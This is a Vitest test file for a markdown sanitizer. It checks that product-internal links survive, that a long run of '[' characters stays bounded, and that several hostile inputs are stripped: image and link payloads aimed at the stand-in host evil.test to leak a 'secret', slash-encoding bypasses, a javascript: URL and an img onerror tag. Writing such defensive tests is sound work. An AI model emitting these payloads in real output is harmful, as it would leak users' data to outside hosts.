import { expect, it } from 'vitest';
import { safeMarkdown } from './safe-markdown.ts';

it('leaves words, tables and links to pages of the product', () => {
  const written =
    'Two **urgent** ones:\n\n| Request | Days |\n| --- | --- |\n| [FIX-1](/customer-requests/1?tab=visits&from=list) | 3 < 4 |';
  expect(safeMarkdown(written)).toBe(written);
});

it.each([
  ['a picture', '![x](https://evil.test/p?d=secret)', 'x'],
  ['a picture by reference', '![x][1]\n\n> [1]: //evil.test/secret', 'x\n\n>'],
  ['a link elsewhere', '[here](https://evil.test/secret)', 'here'],
  ['a link of the same protocol', '[here](//evil.test/secret)', 'here'],
  ['a slash that is written as an entity', '[here](/&#47;evil.test/secret)', 'here'],
  ['a slash that is escaped', '[here](/x\\/evil)', 'here'],
  ['a link within a link', '[a [b](https://evil.test/secret)](//evil.test/secret)', 'a b'],
  ['a link by reference', '[here][1]\n[1]: https://evil.test/secret', 'here'],
  ['an address by itself', 'See https://evil.test/secret, www.evil.test/secret', 'See'],
  ['an address in angles', '<https://evil.test/secret>', ''],
  ['a script as address', '[js](javascript:alert(1))', 'js)'],
  ['HTML', '<img src=//evil.test/secret onerror=x> <b>bold</b>', 'bold'],
])('takes away %s', (_name, written, left) => {
  expect(safeMarkdown(written)).toBe(left);
});

it('ends, and is short', () => {
  expect(safeMarkdown('['.repeat(50_000)).length).toBeLessThanOrEqual(8_000);
});
